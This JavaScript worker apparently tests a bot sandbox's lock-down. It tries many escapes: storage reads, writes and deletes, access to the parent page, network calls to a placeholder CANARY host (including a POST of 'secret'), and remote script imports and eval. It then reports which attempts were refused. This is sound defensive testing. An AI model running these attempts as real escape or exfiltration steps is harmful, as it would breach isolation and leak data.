// A worker in place of a custom bot's: what a bot could do that had got out of Python and past the lock-down. It tries
// all that the wall alone must hold, prints what came of it, and plays the first legal action.
// The test puts the addresses SITE and CANARY in front of it.
"use strict";

const TIME = 1500;
const within = (promise) =>
  Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("silent")), TIME))]);
const request = (asking) =>
  new Promise((yes, no) => {
    asking.onsuccess = () => yes(asking.result);
    asking.onerror = asking.onblocked = () => no(asking.error ?? new Error("blocked"));
  });
const blobUrl = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const listen = (worker) =>
  new Promise((yes, no) => {
    worker.onmessage = ({ data }) => yes(data);
    worker.onerror = () => no(new Error("error"));
  });
const FETCHING = `fetch(${JSON.stringify(`${CANARY}nested`)}, { mode: "no-cors" }).then(() => postMessage("sent"), () => postMessage(""))`;
const fileSystem = (kind) => new Promise((yes, no) => kind.call(self, 0, 1, yes, no));

/** Each returns what it has got. */
const ATTEMPTS = {
  // What is stored.
  indexedDb: async () => (await request(indexedDB.open("marked"))).objectStoreNames.length,
  indexedDbNames: async () => (await indexedDB.databases()).length,
  indexedDbDelete: async () => request(indexedDB.deleteDatabase("marked")).then(() => "deleted"),
  cachedFile: async () => caches.match(`${SITE}assets/marked.js`),
  cacheNames: async () => (await caches.keys()).length,
  cacheWrite: async () => {
    const cache = await caches.open("marked");
    await cache.put(`${SITE}assets/evil.js`, new Response("evil"));
  },
  cacheDelete: async () => caches.delete("marked"),
  privateFiles: async () => (await navigator.storage.getDirectory()).getDirectoryHandle("marked"),
  bucket: async () => navigator.storageBuckets.open("marked", { durability: "strict" }),
  webkitFiles: async () => fileSystem(webkitRequestFileSystem),
  webkitFilesSync: async () => webkitRequestFileSystemSync(0, 1).root,
  webkitUrl: async () => webkitResolveLocalFileSystemSyncURL(`filesystem:${SITE}temporary/snapshots`),
  cookies: async () => (await cookieStore.getAll()).length,
  cookieWrite: async () => cookieStore.set("evil", "1"),
  localStorage: async () => localStorage.length,
  sessionStorage: async () => sessionStorage.length,
  locks: async () => (await navigator.locks.query()).held.length,
  serviceWorker: async () => (await navigator.serviceWorker.getRegistrations()).length,
  // The page.
  parent: async () => parent,
  page: async () => document.title,
  siteAddress: async () => `${location.href} ${self.origin} ${performance.getEntries().map(({ name }) => name)}`.includes(SITE),
  channel: async () =>
    new Promise((yes) => {
      const channel = new BroadcastChannel("marked");
      channel.onmessage = ({ data }) => yes(data);
      channel.postMessage("ask");
    }),
  sharedMemory: async () => new SharedArrayBuffer(8).byteLength && crossOriginIsolated,
  // The network.
  fetch: async () => fetch(`${CANARY}fetch`),
  fetchBlind: async () => fetch(`${CANARY}blind`, { mode: "no-cors", keepalive: true }),
  fetchPost: async () => fetch(`${CANARY}post`, { method: "POST", mode: "no-cors", body: "secret" }),
  fetchSite: async () => fetch(`${SITE}canary-fetch`, { mode: "no-cors" }),
  fetchIndex: async () => (await fetch(SITE)).text(),
  xhr: async () => {
    const asking = new XMLHttpRequest();
    asking.open("GET", `${CANARY}xhr`, false);
    asking.send();
    return asking.status;
  },
  xhrSite: async () => {
    const asking = new XMLHttpRequest();
    asking.open("GET", `${SITE}canary-xhr`, false);
    asking.send();
    return asking.status;
  },
  webSocket: async () =>
    new Promise((yes, no) => {
      const socket = new WebSocket(`${CANARY.replace("http", "ws")}socket`);
      socket.onopen = () => yes("open");
      socket.onerror = () => no(new Error("error"));
    }),
  webSocketStream: async () => new WebSocketStream(`${CANARY.replace("http", "ws")}stream`).opened,
  webTransport: async () => {
    const transport = new WebTransport(CANARY.replace("http", "https"));
    for (const ending of [transport.closed, transport.draining]) ending?.catch(() => {});
    return transport.ready;
  },
  eventSource: async () =>
    new Promise((yes, no) => {
      const source = new EventSource(`${CANARY}events`);
      source.onopen = () => yes("open");
      source.onerror = () => no(new Error("error"));
    }),
  font: async () => new FontFace("Evil", `url(${CANARY}font.woff2)`).load(),
  webAssembly: async () => WebAssembly.compileStreaming(fetch(`${CANARY}module.wasm`)),
  peers: async () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${CANARY.split("/")[2]}` }] }),
  notification: async () => Notification.permission === "granted",
  beacon: async () => navigator.sendBeacon(`${CANARY}beacon`),
  // Other code.
  importForeign: async () => import(`${CANARY}module.js`),
  importSite: async () => import(`${SITE}canary-module.js`),
  importBlob: async () => import(blobUrl("export default 1")),
  importData: async () => import("data:text/javascript,export default 1"),
  scriptForeign: async () => importScripts(`${CANARY}script.js`),
  scriptSite: async () => importScripts(`${SITE}canary-script.js`),
  evaluate: async () => (0, eval)("1"),
  construct: async () => Function("return 1")(),
  constructAsync: async () => (async () => {}).constructor("return 1")(),
  textTimer: async () => new Promise((yes) => {
    self.timed = yes;
    setTimeout("timed('ran')");
  }),
  policy: async () => trustedTypes.createPolicy("evil", { createScriptURL: (url) => url }),
  workerForeign: async () => listen(new Worker(`${CANARY}worker.js`)),
  workerSite: async () => listen(new Worker(`${SITE}canary-worker.js`)),
  workerBlob: async () => listen(new Worker(blobUrl(FETCHING))),
  workerData: async () => listen(new Worker(`data:text/javascript,${encodeURIComponent(FETCHING)}`)),
  sharedWorker: async () => new SharedWorker(blobUrl(FETCHING)) && undefined,
};

async function outcome([name, attempt]) {
  try {
    const got = await within(attempt());
    return `${name} ${got ? `GOT ${String(got).slice(0, 60)}` : "nothing"}`;
  } catch (error) {
    return `${name} refused ${error?.name ?? error}`;
  }
}

// What is refused late is no fault of the page.
self.addEventListener("unhandledrejection", (event) => event.preventDefault());

self.onmessage = ({ ports: [port] }) => {
  self.onmessage = null;
  let printed;
  port.onmessage = async ({ data: question }) => {
    const token = question.slice(0, question.indexOf(" ") + 1);
    if (printed === undefined) {
      printed = `${(await Promise.all(Object.entries(ATTEMPTS).map(outcome))).join("\n")}\n`;
      port.postMessage(token);
    } else {
      port.postMessage(token + ["0", "", "", "0", "0", "", printed].join("\0"));
      printed = "";
    }
  };
  port.postMessage("ready");
};
